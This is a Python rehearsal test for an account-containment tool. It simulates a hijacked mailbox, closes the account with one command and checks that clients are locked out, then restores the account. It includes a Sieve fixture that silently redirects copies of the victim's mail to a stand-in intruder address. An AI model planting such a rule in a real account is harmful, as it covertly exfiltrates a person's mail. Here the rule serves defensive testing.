# SPDX-License-Identifier: Apache-2.0
"""The last act of the rehearsal: one command closes the account, and another gives it back; real clients look at both."""

import imaplib
import json
import os
import smtplib
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from subprocess import run
from typing import Any

from clients import Imap, Sender
from servers import MailServer, until

#: where the intruder has the victim's mail sent, and the owner's own rule beside it
COLLECTOR = "collect@elsewhere.example"
SCRIPT = f"""require ["fileinto", "copy", "mailbox"];
if header :contains "subject" "bill 0815" {{ fileinto :create "Bills"; }}
redirect :copy "{COLLECTOR}";
"""


@dataclass
class Closing:
    """What clients saw after the account was closed, and after it was given back."""

    seconds: float = 0.0
    steps: int = 0
    verified: int = 0
    copies: int = 0
    copies_left: int = 0
    password_refused: bool = False
    session_gone: bool = False
    redirect_gone: bool = False
    owners_rule_stays: bool = False
    read_again: bool = False
    given_back: bool = False
    ledger_whole: bool = False

    def broken(self) -> list[str]:
        """Say which promises were not kept."""
        promises = {
            "every step of the plan is verified by a reading": self.verified == self.steps > 0,
            "the old password is refused by IMAP and at submission": self.password_refused,
            "the intruder's open session is gone": self.session_gone,
            "the intruder's redirect is gone": self.redirect_gone,
            "the owner's own rule stays": self.owners_rule_stays,
            "no copy of the lure is left in a mailbox of ours": self.copies > 0 == self.copies_left,
            "`contain verify` reads it all again": self.read_again,
            "`contain undo` gives everything back": self.given_back,
            "the ledger of the case is whole": self.ledger_whole,
        }
        return [promise for promise, kept in promises.items() if not kept]


def lures_inside(server: MailServer, subject: str) -> list[Path]:
    """Find the mails of a subject in the mailboxes of a server."""
    homes = (server.root / "homes").iterdir()
    mails = (
        path for home in homes for path in home.rglob("*") if path.parent.name in ("new", "cur") and path.is_file()
    )
    return [path for path in mails if f"Subject: {subject}".encode() in path.read_bytes()]


@dataclass
class Scene:
    """Who and where: `lure` is the subject by which copies are known, `place` where the intruder comes from."""

    server: MailServer
    victim: str
    place: str
    lure: str
    logs: Path
    case: Path
    zone: str
    domain: str
    letter: Callable[[str, str, str, str], bytes]

    def hikeshi(self, *words: str) -> str:
        """Run a command on the case, as its users do."""
        done = run(
            [sys.executable, "-m", "hikeshi.cli", *words, "--case", str(self.case)],
            capture_output=True, text=True, check=False, env={**os.environ, "TZ": self.zone},
        )  # fmt: skip
        if done.returncode:
            raise RuntimeError(f"hikeshi {' '.join(words)} ended with {done.returncode}:\n{done.stdout}\n{done.stderr}")
        return done.stdout

    def copies(self) -> int:
        """Count the lures that lie in mailboxes of ours, outside the quarantine."""
        return sum("quarantine" not in str(path) for path in lures_inside(self.server, self.lure))

    def signs_in(self) -> bool:
        """Try the old password by IMAP and at the submission port; both or neither must take it."""
        taken = [self._by_imap(), self._by_smtp()]
        if taken[0] != taken[1]:
            raise RuntimeError(f"IMAP takes the password: {taken[0]}, submission: {taken[1]}")
        return taken[0]

    def _by_imap(self) -> bool:
        imap = Imap(self.server.ports["imap"], self.place)
        try:
            imap.login(self.victim, self.server.accounts[self.victim])
        except imaplib.IMAP4.error:
            return False
        finally:
            imap.shutdown()
        return True

    def _by_smtp(self) -> bool:
        with Sender(self.server.ports["submission"], self.place) as smtp:
            try:
                smtp.sign_in(self.victim, self.server.accounts[self.victim])
            except smtplib.SMTPAuthenticationError:
                return False
        return True

    def redirects(self, subject: str) -> bool:
        """Let a mail come in for the victim and say whether the collector gets it."""
        self._receive(subject)
        self.server.settle()
        return self._collected(subject)

    def redirects_now(self, subject: str) -> bool:
        """Say the same while somebody is signed in, so that the server does not come to rest."""
        self._receive(subject)
        until(lambda: self._collected(subject), "the redirect works")
        return True

    def _receive(self, subject: str) -> None:
        mail = self.letter("friend@partner.example", self.victim, subject, "hello")
        self.server.receive("friend@partner.example", [self.victim], mail)

    def _collected(self, subject: str) -> bool:
        needle = f"Subject: {subject}".encode()
        return any(COLLECTOR in mail.recipients and needle in mail.data for mail in self.server.outside.mails)

    def bills(self) -> int:
        """Count the mails that the owner's own rule has put away."""
        home = self.server.root / "homes" / self.victim
        return len([path for path in home.glob("Maildir/.Bills/[nc]*/*") if path.is_file()])


def close(scene: Scene, say: Any) -> Closing:
    """Be the administrator: investigate, close the account with one command, look, and give it back."""
    told = Closing()
    session = Imap(scene.server.ports["imap"], scene.place)
    session.login(scene.victim, scene.server.accounts[scene.victim])
    scene.redirects_now("before")
    scene.hikeshi(
        "investigate", str(scene.logs), str(scene.server.mail_log), str(scene.server.dovecot_log),
        "--tz", scene.zone, "--org", scene.domain,
    )  # fmt: skip
    told.copies = scene.copies()
    connectors = scene.case.parent / "connectors.toml"
    connectors.write_text(
        f'[dovecot]\nconfig = "{scene.server.etc}/dovecot.conf"\n[postfix]\nconfig = "{scene.server.etc}"\n'
    )
    say(f"`hikeshi contain --execute` closes {scene.victim} …")
    began = time.monotonic()
    where = ("--connectors", str(connectors))
    plan = json.loads(
        scene.hikeshi("contain", *where, "--execute", "--who", "rehearsal", "--why", "taken over", "--json")
    )
    told.seconds = time.monotonic() - began
    states = [one["state"] for one in plan["steps"]]
    told.steps, told.verified = len(states), sum(one in ("verified", "already") for one in states)
    told.password_refused = not scene.signs_in()
    told.session_gone = _gone(session)
    told.redirect_gone = not scene.redirects("bill 0815")
    told.owners_rule_stays = scene.bills() == 1
    told.copies_left = scene.copies()
    told.read_again = "verified" in scene.hikeshi("contain", "verify", *where)
    say("`hikeshi contain undo` gives it back …")
    scene.hikeshi("contain", "undo", "--all", *where, "--who", "rehearsal", "--why", "the rehearsal is over")
    told.given_back = scene.signs_in() and scene.redirects("after") and scene.copies() == told.copies
    told.ledger_whole = "0 deviations" in scene.hikeshi("case", "verify")
    return told


def _gone(session: Imap) -> bool:
    try:
        session.noop()
    except (imaplib.IMAP4.abort, OSError):
        return True
    finally:
        session.shutdown()
    return False
